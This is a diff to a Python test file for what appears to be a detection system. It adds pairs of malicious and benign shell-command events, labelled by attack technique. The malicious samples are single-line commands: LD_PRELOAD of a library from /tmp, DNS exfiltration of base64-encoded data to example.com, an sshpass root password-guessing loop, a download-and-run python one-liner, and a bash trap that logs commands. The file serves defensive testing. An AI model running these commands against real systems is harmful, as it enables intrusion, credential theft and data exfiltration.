@@ -538,6 +538,18 @@ CASES: dict[str, tuple[EnrichedEvent, EnrichedEvent]] = {
         run("python3 -c 'import os,urllib.request as u;u.urlretrieve(URL,F);os.system(CMD)'"),
         run("python3 -c 'import urllib.request as u;u.urlopen(HEALTH_URL)'"),
     ),
+    "foothold.ld-preload-from-writable-path": (
+        run("/bin/sh -c 'LD_PRELOAD=/tmp/hook.so ls'"),
+        run("/bin/sh -c 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 exec redis'"),
+    ),
+    "objectives.dns-exfiltration": (
+        run("dig @10.0.0.2 dGhpcyBpcyBhIHNlY3JldCBpbmZvCg==.example.com"),
+        run("dig @10.0.0.2 db.internal.example.com"),
+    ),
+    "privilege_escalation.password-guessing": (
+        run("/bin/sh -c 'for p in $(cat list); do sshpass -p $p ssh root@10.0.0.5; done'"),
+        run("/bin/sh -c 'sshpass -e ssh deploy@10.0.0.5 uptime'"),
+    ),
     "persistence.shell-trap": (
         run("/bin/bash -c 'trap \"echo $BASH_COMMAND >> /tmp/k\" DEBUG; id'"),
         run("/bin/bash -c 'trap \"rm -f /tmp/lock\" EXIT; id'"),
